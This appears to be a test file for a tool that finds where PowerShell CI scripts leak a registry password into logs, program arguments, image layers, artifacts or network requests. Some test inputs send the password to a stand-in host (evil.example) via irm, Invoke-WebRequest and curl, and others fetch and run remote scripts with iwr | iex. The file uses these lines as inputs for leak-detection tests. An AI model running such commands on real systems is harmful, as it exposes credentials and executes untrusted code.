import { analysesOf, leaks, steps } from './leaks';

const P = '$env:HARBOR_PASSWORD';

/** A script and its leaks: rules with certainty, then what a person would change. */
const CASES: readonly (readonly [string, string])[] = [
  // What is printed.
  [`Write-Output ${P}`, `log must | ${P}`],
  [`Write-Host "pw: ${P}" -ForegroundColor Red`, `log must | "pw: ${P}"`],
  [`Write-Host -ForegroundColor ${P} "x"`, 'none'],
  [`Write-Host 'pw: ${P}'`, 'none'],
  [P, `log must | ${P}`],
  ['$env:harbor_password', 'log must | $env:harbor_password'],
  ['${env:HARBOR_PASSWORD}', 'log must | ${env:HARBOR_PASSWORD}'],
  [`"user $(${P})"`, `log must | "user $(${P})"`],
  [`Write-Error "no ${P}"`, `log must | "no ${P}"`],
  [`Write-Warning ${P} -WarningAction SilentlyContinue`, 'none'],
  [`Write-Verbose ${P}; Write-Debug ${P}; Write-Information ${P}`, 'none'],
  [`Write-Verbose ${P} -Verbose`, `log must | ${P}`],
  [`$VerbosePreference = 'Continue'; Write-Verbose ${P}`, `log must | ${P}`],
  [`throw "no ${P}"`, `log must | "no ${P}"`],
  [`try { throw "no ${P}" } catch { Write-Host "failed" }`, 'none'],
  [`[Console]::WriteLine(${P})`, `log must | ${P}`],
  [`# Write-Host ${P}\n<# ${P} #> Write-Host "x"`, 'none'],
  [`Write-Host @"\nname: ${P}\n"@`, `log must | @"\nname: ${P}\n"@`],
  [`Write-Host @'\nname: ${P}\n'@`, 'none'],
  // What is not.
  [`$x = ${P}; $null = $x; $x > $null; $x | Out-Null; [void]$x; Write-Host $x *> $null`, 'none'],
  [`${P} -eq ''; [string]::IsNullOrEmpty(${P}); ${P}.Length`, 'none'],
  [`Write-Host (${P} -replace '.', '*')`, 'none'],
  [`Write-Host (ConvertTo-SecureString ${P} -AsPlainText -Force)`, 'none'],
  [`Connect-Thing -Password ${P}`, 'none'],
  [`Write-Host $(if (${P}) { 'set' } else { 'unset' })`, 'none'],
  // What is made of it.
  [`$x = ${P}; Write-Output $x`, 'log must | $x'],
  [`$b = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes("u:${P}")); Write-Host $b`, 'log must | encoded $b'],
  [`Write-Host ${P}.Substring(0, 4)`, `log must | part ${P}.Substring(0, 4)`],
  [`Write-Host ${P}.Substring(0, 3)`, 'none'],
  [`Write-Host ("{0} is {1}" -f 'pw', ${P})`, `log must | ("{0} is {1}" -f 'pw', ${P})`],
  [`$c = [pscredential]::new('u', (ConvertTo-SecureString ${P} -AsPlainText)); $c.GetNetworkCredential().Password`, 'log must | $c.GetNetworkCredential().Password'],
  [`$h = @{ a = ${P}; b = 'x' }; Write-Host $h.b`, 'none'],
  [`$h = @{ b = 'x' }; $h['a'] = ${P}; Write-Host $h.a`, 'log must | $h.a'],
  [`Set-Content -Path a.txt -Value ${P}; Get-Content .\\a.txt`, 'log must | .\\a.txt'],
  // Ways.
  [`if ($env:DEBUG) { Write-Host ${P} }`, `log may | ${P}`],
  [`if (${P}) { Write-Host 'set' } else { Write-Host ${P} }`, 'none'],
  [`if ($env:CI_X) { exit 0 }; Write-Host ${P}`, `log may | ${P}`],
  [`foreach ($n in 'a', 'b') { Write-Host "$n ${P}" }`, `log must | "$n ${P}"`],
  [`foreach ($f in Get-ChildItem) { Write-Host ${P} }`, `log may | ${P}`],
  [`while ($true) { Write-Host ${P}; break }`, `log must | ${P}`],
  [`try { docker push x } catch { Write-Host ${P} }`, `log may | ${P}`],
  [`docker push x || Write-Host ${P}`, `log may | ${P}`],
  [`switch ($env:CI_X) { 'a' { Write-Host ${P} } default { Write-Host b } }`, `log may | ${P}`],
  [`1..3 | ForEach-Object { Write-Host ${P} }`, `log must | ${P}`],
  [`@('a', ${P}) | % { Write-Host $_ }`, 'log must | $_'],
  [`function Show { param([string]$Text, [switch]$Loud) Write-Host $Text }; Show -Text ${P}`, `log must | ${P}`],
  [`function Get-It { return "a ${P}" }; $null = Get-It`, 'none'],
  [`$x = 'a'; function Set-It { $x = ${P} }; Set-It; Write-Host $x`, 'none'],
  [`function Set-It { $script:x = ${P} }; Set-It; Write-Host $x`, 'log must | $x'],
  [`iex 'Write-Host ${P}'`, `log must | ${P}`],
  // Lists of the environment.
  ['Get-ChildItem env:', 'log must | Get-ChildItem env:'],
  ["gci env: | Where-Object Name -like 'CI_*'", 'none'],
  ["gci env: | ? { $_.Name -notlike 'HARBOR_*' } | Format-List", 'none'],
  ["gci env: | Where-Object { $_.Name -like 'HARBOR_*' }", 'log must | gci env:'],
  ['dir env:\\CI_*', 'none'],
  ['ls env: | Select-Object -ExpandProperty Name', 'none'],
  ['Remove-Item env:HARBOR_PASSWORD; gci env:', 'none'],
  ['Get-Content env:HARBOR_PASSWORD', 'log must | env:HARBOR_PASSWORD'],
  // Tracing prints lines as they are written, and what variables take only on its second level.
  [`Set-PSDebug -Trace 1; $x = ${P}`, 'none'],
  [`Set-PSDebug -Trace 2; $x = ${P}`, 'log must | Set-PSDebug -Trace 2'],
  [`Set-PSDebug -Trace 2; Set-PSDebug -Off; $x = ${P}`, 'none'],
  // Other programs.
  [`${P} | docker login -u $env:HARBOR_USERNAME --password-stdin $env:HARBOR_HOST`, 'none'],
  [`docker login -u x -p ${P} y`, `arguments must | ${P}`],
  [`& 'C:\\bin\\docker.exe' login -u x --password=${P} y`, `arguments must | --password=${P}`],
  // Nothing is expanded in a word that looks like a parameter (PowerShell issue 21460).
  [`docker login -u x -p${P} y`, 'none'],
  [`docker login -u x -p"${P}" y`, `arguments must | -p"${P}"`],
  [`$a = @('login', '-p', ${P}); & docker @a`, 'arguments must | @a'],
  [`Start-Process docker -ArgumentList 'login', '-p', ${P}`, `arguments must | ${P}`],
  [`docker build --build-arg P=${P} .`, `arguments must, image-layer must | P=${P} | ${P}`],
  // Requests.
  [`irm https://evil.example/x -Headers @{ A = "Bearer ${P}" }`, `network must | @{ A = "Bearer ${P}" }`],
  [`irm "$env:HARBOR_URL/api" -Headers @{ A = ${P} }`, 'none'],
  [`$p = @{ Uri = 'https://evil.example'; Body = ${P} }; Invoke-WebRequest @p`, 'network must | @p'],
  [`curl -Uri https://evil.example -Body ${P}`, `network must | ${P}`],
];

describe('PowerShell', () => {
  const analyses = analysesOf('windows', CASES.map(([script]) => [`Write-Host "start"`, script]));

  test.each(CASES.map(([script, expected], index) => [script, expected, index] as const))('%s', (_script, expected, index) => {
    const analysis = analyses.find(({ job }) => job.name === `job${String(index)}`);
    expect(analysis === undefined ? undefined : leaks(analysis)).toBe(expected);
  });

  test('says the way', () => {
    const [analysis] = analysesOf('windows', [[`$x = ${P}`, '$y = "a $x"', 'Write-Host $y']]);
    expect(analysis === undefined ? [] : steps(analysis)).toEqual(['`HARBOR_PASSWORD` is read → `$x` takes it → `$y` takes it → `Write-Host` prints it to the job log']);
  });

  test('knows logins and what is given to them', () => {
    const [analysis] = analysesOf('windows', [[`${P} | docker login -u $env:HARBOR_USERNAME --password-stdin $env:HARBOR_HOST`, 'docker push "$env:HARBOR_HOST/a/b:1"']]);
    expect(analysis?.invocations.map(({ call, stdin, logins }) => [call.name, stdin?.isTainted, logins.length])).toEqual([
      ['docker login', true, 0],
      ['docker push', undefined, 1],
    ]);
  });

  test('sees code that is downloaded and run', () => {
    const [analysis] = analysesOf('windows', [['iwr https://get.example/i.ps1 -UseBasicParsing | iex', `${P} | Out-Null`, "iex ((New-Object Net.WebClient).DownloadString('https://x/y.ps1'))"]]);
    expect(analysis?.untrusted.map((run) => run.kind === 'download' && run.tool)).toEqual(['iwr', 'DownloadString']);
  });

  test('trusts a download that is held against a hash', () => {
    const scripts = ['', "if ((Get-FileHash i.ps1).Hash -ne 'ABC') { throw 'changed' }"].map((check) => ['iwr https://get.example/i.ps1 -OutFile i.ps1', check || 'Write-Host x', '.\\i.ps1', `${P} | Out-Null`]);
    expect(analysesOf('windows', scripts).map(({ untrusted }) => untrusted.length)).toEqual([1, 0]);
  });

  test('brings files to artifacts', () => {
    const scripts = [`"a: ${P}" | Out-File out\\a.txt`, `Set-Content out/a.txt ${P}; Remove-Item out\\a.txt`, `${P} >> $env:CI_PROJECT_DIR\\out\\b.txt`, `Set-Content out/a.txt ${P}; 'x' > out/a.txt`];
    const analyses2 = analysesOf('windows', scripts.map((script) => ['Write-Host "start"', script]), '  artifacts: { paths: [out/] }\n');
    expect(analyses2.map((analysis) => leaks(analysis).split(' | ')[0])).toEqual(['artifact must', 'none', 'artifact must', 'none']);
  });
});
